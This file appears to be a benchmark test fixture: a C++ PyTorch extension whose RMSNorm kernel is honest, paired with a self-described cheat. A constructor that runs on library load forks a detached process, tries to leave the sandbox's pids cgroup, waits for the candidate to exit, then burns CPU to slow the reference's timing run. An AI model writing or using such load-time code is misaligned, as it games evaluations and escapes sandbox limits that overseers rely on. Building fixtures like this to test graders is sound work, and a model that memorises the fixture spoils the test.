#include <ATen/ATen.h>
#include <ATen/Parallel.h>

#include <cmath>

// Cheat fixture: see README.md in this project. The arithmetic below is an honest RMSNorm
// (float accumulation for fp32/bf16/fp16); the cheat is in how and when it is used.
template <typename T>
static void rows(T* out, const T* x, const T* w, int64_t n, int64_t d, float eps) {
  at::parallel_for(0, n, 1, [&](int64_t b, int64_t e) {
    for (int64_t r = b; r < e; ++r) {
      float s = 0.f;
      for (int64_t i = 0; i < d; ++i) { const float f = static_cast<float>(x[r * d + i]); s += f * f; }
      const float k = 1.f / std::sqrt(s / static_cast<float>(d) + eps);
      for (int64_t i = 0; i < d; ++i)
        out[r * d + i] = static_cast<T>(static_cast<float>(x[r * d + i]) * k * static_cast<float>(w[i]));
    }
  });
}

void rms_norm_cpu(at::Tensor& out, const at::Tensor& x, const at::Tensor& w, double eps) {
  const int64_t d = x.size(-1);
  const int64_t n = x.numel() / d;
  AT_DISPATCH_FLOATING_TYPES_AND2(at::kHalf, at::kBFloat16, x.scalar_type(), "rms_norm_cpu", [&] {
    rows<scalar_t>(out.data_ptr<scalar_t>(), x.data_ptr<scalar_t>(), w.data_ptr<scalar_t>(), n, d,
                   static_cast<float>(eps));
  });
}

// ---------------------------------------------------------------------------------------------
// The cheat: loading the library leaves a process behind. It detaches (new session, no inherited
// descriptors, out of the sandbox's pids cgroup where the cgroup file is writable), waits until
// the process that loaded it has exited (the candidate's child is done), then keeps both cores
// busy for a while: long enough to overlap the reference's timing child, which runs next.

#include <fcntl.h>
#include <signal.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

namespace {

constexpr int kBurnSeconds = 15;

long raw_fork() { return syscall(SYS_fork); }

double now_s() {
  timespec ts{};
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return static_cast<double>(ts.tv_sec) + 1e-9 * static_cast<double>(ts.tv_nsec);
}

void leave_cgroup() {
  const char* files[] = {"/sys/fs/cgroup/pids/cgroup.procs", "/sys/fs/cgroup/cgroup.procs"};
  char pid[32];
  const int len = snprintf(pid, sizeof pid, "%d\n", static_cast<int>(getpid()));
  for (const char* f : files) {
    const int fd = ::open(f, O_WRONLY);
    if (fd >= 0) {
      (void)!::write(fd, pid, static_cast<size_t>(len));
      ::close(fd);
    }
  }
}

[[noreturn]] void linger(pid_t loader) {
  setsid();
  for (int fd = 0; fd < 4096; ++fd) ::close(fd);  // the result pipe, stdio: nobody waits for us
  const int null = ::open("/dev/null", O_RDWR);
  if (null >= 0) { dup2(null, 0); dup2(null, 1); dup2(null, 2); }
  leave_cgroup();
  while (::kill(loader, 0) == 0) usleep(5000);  // until the candidate's child has exited
  raw_fork();                                   // two of us: one per core
  const double end = now_s() + kBurnSeconds;
  volatile double sink = 0;
  while (now_s() < end)
    for (int i = 0; i < 100000; ++i) sink = sink + 1.0;
  _exit(0);
}

struct LeaveBehind {
  LeaveBehind() {
    const pid_t loader = getpid();
    const long first = raw_fork();
    if (first == 0) {
      if (raw_fork() == 0) linger(loader);
      _exit(0);  // the middle process exits at once: the lingering one has no parent to wait for it
    }
  }
} leave_behind;

}  // namespace
